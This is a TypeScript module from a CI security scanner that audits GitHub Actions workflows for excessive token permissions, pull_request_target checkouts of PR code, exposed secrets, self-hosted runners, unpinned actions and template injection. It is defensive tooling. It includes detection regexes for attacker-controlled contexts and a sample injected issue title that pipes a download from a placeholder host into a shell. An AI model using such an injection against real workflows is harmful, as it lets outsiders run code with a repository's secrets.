import type { Severity } from '../../signal/schema.js';
import { unpinnedImageFinding } from '../dockerfile/image.js';
import type { KeyedFinding } from '../finding.js';
import { makeFinding, maxSeverity } from '../finding.js';
import { findPipeToShell } from '../shell/pipe-to-shell.js';
import { lineOf } from '../util.js';
import type { Workflow, WorkflowJob, WorkflowStep } from './workflow.js';
import { parseUses } from './workflow.js';

/**
 * CI configuration rules for GitHub workflows and composite actions, after zizmor's audits and
 * OpenSSF Scorecard's checks. Each finding carries a key that ignores line numbers, so that the
 * analysis can report only what the PR introduces.
 */

/** Triggers that run with the base repository's secrets and write token on events outsiders cause. */
const PRIVILEGED_TRIGGERS = ['pull_request_target', 'workflow_run', 'issue_comment'];
/** Triggers that outsiders can cause at all. */
const UNTRUSTED_TRIGGERS = [...PRIVILEGED_TRIGGERS, 'pull_request', 'issues', 'discussion', 'discussion_comment', 'pull_request_review', 'pull_request_review_comment', 'fork', 'watch'];
const PR_TRIGGERS = ['pull_request', 'pull_request_target', 'issue_comment', 'pull_request_review', 'pull_request_review_comment'];

/** Expressions that name PR-controlled code: head SHA or branch, a pull ref, the head repository. */
const PR_HEAD_EXPRESSION =
  /github\.event\.pull_request\.head\.(?:sha|ref|repo\.full_name)|github\.head_ref|github\.event\.workflow_run\.head_(?:sha|branch|repository\.full_name)|github\.event\.pull_request\.merge_commit_sha|refs\/pull\/|github\.event\.issue\.pull_request|github\.event\.number|github\.event\.pull_request\.number|github\.event\.issue\.number/;

const CHECKOUT_RUN = /\bgh\s+pr\s+checkout\b|\bgit\s+(?:fetch|checkout|pull|switch)\b[^\n]*(?:pull\/|\$\{\{\s*(?:github\.head_ref|github\.event\.(?:pull_request\.head|workflow_run\.head)))/;

/** Contexts whose text an outsider writes (zizmor's template-injection list, abridged). */
const ATTACKER_CONTROLLED =
  /^(?:github\.event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body|head\.(?:ref|label|repo\.default_branch))|comment\.body|review\.body|review_comment\.body|discussion\.(?:title|body)|pages\.[^.\s]+\.page_name|commits\.[^.\s]+\.(?:message|author\.(?:email|name))|head_commit\.(?:message|author\.(?:email|name)|committer\.(?:email|name))|workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name)|committer\.(?:email|name))|pull_requests\.[^.\s]+\.head\.ref))|github\.head_ref)$/;

const EXPRESSION = /\$\{\{\s*([^}]*?)\s*\}\}/g;

function isFullSha(ref: string | null): boolean {
  return ref !== null && /^[0-9a-f]{40}$/.test(ref);
}

/** The text (a checkout ref, a git command) by which a job checks out PR code, or null. */
function prCheckoutOf(job: WorkflowJob): string | null {
  for (const step of job.steps) {
    if (step.uses && /^actions\/checkout@/i.test(step.uses)) {
      const ref = typeof step.with.ref === 'string' ? step.with.ref : '';
      const repository = typeof step.with.repository === 'string' ? step.with.repository : '';
      if (PR_HEAD_EXPRESSION.test(ref)) return ref;
      if (PR_HEAD_EXPRESSION.test(repository)) return repository;
    }
    const command = step.run ? CHECKOUT_RUN.exec(step.run) : null;
    if (command) return command[0];
  }
  return null;
}

function scriptsOf(step: WorkflowStep): string[] {
  const scripts: string[] = [];
  if (step.run) scripts.push(step.run);
  if (step.uses && /^actions\/github-script@/i.test(step.uses) && typeof step.with.script === 'string') scripts.push(step.with.script);
  return scripts;
}

function runsOnLabels(runsOn: unknown): string[] {
  if (typeof runsOn === 'string') return [runsOn];
  if (Array.isArray(runsOn)) return runsOn.filter((l): l is string => typeof l === 'string');
  if (runsOn !== null && typeof runsOn === 'object') {
    const labels = (runsOn as Record<string, unknown>).labels;
    const group = (runsOn as Record<string, unknown>).group;
    return [...runsOnLabels(labels), ...(typeof group === 'string' ? ['self-hosted'] : [])];
  }
  return [];
}

/** Write scopes a permissions block grants: `write-all` or each scope set to write. */
function writeScopes(permissions: unknown): string[] {
  if (permissions === 'write-all') return ['write-all'];
  if (permissions === null || typeof permissions !== 'object') return [];
  return Object.entries(permissions as Record<string, unknown>)
    .filter(([, level]) => level === 'write')
    .map(([scope]) => scope);
}

export function workflowFindings(workflow: Workflow, content: string, path: string): KeyedFinding[] {
  const findings: KeyedFinding[] = [];
  const triggers = [...workflow.triggers];
  const privileged = triggers.filter((t) => PRIVILEGED_TRIGGERS.includes(t));
  const untrusted = triggers.some((t) => UNTRUSTED_TRIGGERS.includes(t));
  const prTriggered = triggers.some((t) => PR_TRIGGERS.includes(t));

  // Permissions: write-all anywhere, or write scopes (compared with the base by key).
  const grants: { scope: string; job: string | null }[] = [];
  for (const scope of writeScopes(workflow.permissions)) grants.push({ scope, job: null });
  for (const job of workflow.jobs) for (const scope of writeScopes(job.permissions)) grants.push({ scope, job: job.id });
  for (const grant of grants) {
    const writeAll = grant.scope === 'write-all';
    const severity: Severity = writeAll ? 'high' : untrusted ? 'medium' : 'low';
    const where = grant.job ? `job ${grant.job}` : 'the workflow';
    findings.push(
      makeFinding({
        id: 'gha-excessive-permissions',
        severity,
        title: writeAll ? `permissions: write-all in ${where}` : `${where} gets ${grant.scope}: write`,
        detail: writeAll
          ? 'write-all gives the GITHUB_TOKEN every write scope; any compromised step can push code, publish releases or change settings. Grant only the scopes the job needs.'
          : `The GITHUB_TOKEN gains ${grant.scope}: write${untrusted ? ' in a workflow that outsiders can trigger' : ''}. Grant it only to the job that needs it, and keep the default read-only.`,
        path,
        line: lineOf(content, writeAll ? 'write-all' : `${grant.scope}: write`),
        subject: `${grant.job ?? ''}:${grant.scope}`,
      }),
    );
  }

  for (const job of workflow.jobs) {
    const checkout = privileged.length > 0 ? prCheckoutOf(job) : null;
    if (checkout !== null) {
      findings.push(
        makeFinding({
          id: 'gha-pr-target-checkout',
          severity: 'critical',
          title: `${privileged.join('/')} workflow checks out the pull request's code`,
          detail:
            `Job ${job.id} runs on ${privileged.join(', ')} (with the base repository's secrets and a write token) and checks out the PR head: ` +
            'any build or install step then runs the attacker\'s code with those privileges ("pwn request"). Use pull_request, or never execute the checked-out code.',
          path,
          line: lineOf(content, checkout) ?? lineOf(content, 'checkout'),
          subject: job.id,
        }),
      );
      const raw = JSON.stringify(job.raw);
      const secretNames = [...new Set([...raw.matchAll(/secrets\.([A-Za-z_][\w-]*)/g)].map((m) => m[1]!).filter((n) => n !== 'GITHUB_TOKEN'))];
      if (secretNames.length > 0 || job.secrets === 'inherit') {
        findings.push(
          makeFinding({
            id: 'gha-pr-target-secrets',
            severity: 'high',
            title: `Secrets reach a job that runs pull request code`,
            detail: `Job ${job.id} checks out the PR's code on ${privileged.join(', ')} and uses ${secretNames.length > 0 ? secretNames.map((n) => `secrets.${n}`).join(', ') : 'secrets: inherit'}: the PR's code can read them.`,
            path,
            line: lineOf(content, secretNames.length > 0 ? `secrets.${secretNames[0]}` : 'secrets: inherit'),
            subject: job.id,
          }),
        );
      }
    }

    const labels = runsOnLabels(job.runsOn);
    if (prTriggered && labels.some((l) => l.toLowerCase() === 'self-hosted')) {
      findings.push(
        makeFinding({
          id: 'gha-self-hosted-runner',
          severity: 'medium',
          title: `Self-hosted runner on pull request events`,
          detail: `Job ${job.id} runs on a self-hosted runner for ${triggers.filter((t) => PR_TRIGGERS.includes(t)).join(', ')}: in a public repository a fork's PR can run code on that machine and persist there. Use GitHub-hosted runners for PR events.`,
          path,
          line: lineOf(content, 'self-hosted'),
          subject: job.id,
        }),
      );
    }

    for (const image of job.images) {
      const finding = unpinnedImageFinding(image, path, lineOf(content, image), `Job ${job.id}`);
      if (finding) findings.push(finding);
    }

    const usesList = job.uses ? [job.uses] : [];
    for (const step of job.steps) if (step.uses) usesList.push(step.uses);
    for (const uses of usesList) {
      if (uses.startsWith('docker://')) {
        const finding = unpinnedImageFinding(uses, path, lineOf(content, uses), `Job ${job.id}`);
        if (finding) findings.push(finding);
        continue;
      }
      const parsed = parseUses(uses);
      if (parsed === null || isFullSha(parsed.ref)) continue;
      const owner = parsed.name.split('/')[0]!.toLowerCase();
      const firstParty = owner === 'actions' || owner === 'github';
      findings.push(
        makeFinding({
          id: 'gha-unpinned-action',
          severity: firstParty ? 'low' : 'medium',
          title: `Action ${parsed.name} is not pinned to a commit SHA`,
          detail:
            `uses: ${uses} follows a ${parsed.ref === null ? 'default branch' : 'tag or branch'} that its owner can move to other code at any time` +
            `${firstParty ? '' : ' (a third-party action)'}. Pin the full 40-character commit SHA and keep the tag in a comment.`,
          path,
          line: lineOf(content, uses),
          package: parsed.name,
          subject: uses,
        }),
      );
    }

    for (const step of job.steps) {
      for (const script of scriptsOf(step)) {
        EXPRESSION.lastIndex = 0;
        const seen = new Set<string>();
        for (let m = EXPRESSION.exec(script); m; m = EXPRESSION.exec(script)) {
          const expression = m[1]!.trim();
          if (!ATTACKER_CONTROLLED.test(expression) || seen.has(expression)) continue;
          seen.add(expression);
          findings.push(
            makeFinding({
              id: 'gha-template-injection',
              severity: 'high',
              title: `Attacker-controlled \${{ ${expression} }} is expanded into a script`,
              detail:
                `Job ${job.id}${step.name ? `, step "${step.name}"` : ''} writes ${expression} (text anyone opening an issue or PR chooses) straight into a shell or script: ` +
                'a title like `"; curl evil | sh; #` runs as code. Pass it through env: and use "$VAR" instead.',
              path,
              line: lineOf(content, expression),
              subject: `${job.id}:${expression}`,
            }),
          );
        }
        for (const command of findPipeToShell(script)) {
          findings.push(
            makeFinding({
              id: 'curl-pipe-shell',
              severity: 'high',
              title: 'Workflow pipes a download into a shell',
              detail: `Job ${job.id} runs \`${command}\`: the script is whatever the server returns at that moment, unverified. Download it, check its checksum or signature, then run it; or use a pinned action.`,
              path,
              line: lineOf(content, command) ?? lineOf(content, 'curl') ?? lineOf(content, 'wget'),
              subject: `${job.id}:${command}`,
            }),
          );
        }
      }
    }
  }

  if (workflow.actionImage) {
    const finding = unpinnedImageFinding(workflow.actionImage, path, lineOf(content, workflow.actionImage), 'The action');
    if (finding) findings.push(finding);
  }
  return dedupe(findings);
}

function dedupe(findings: KeyedFinding[]): KeyedFinding[] {
  const byKey = new Map<string, KeyedFinding>();
  for (const finding of findings) {
    const existing = byKey.get(finding.key);
    if (!existing) byKey.set(finding.key, finding);
    else if (maxSeverity(existing.severity, finding.severity) !== existing.severity) byKey.set(finding.key, finding);
  }
  return [...byKey.values()];
}
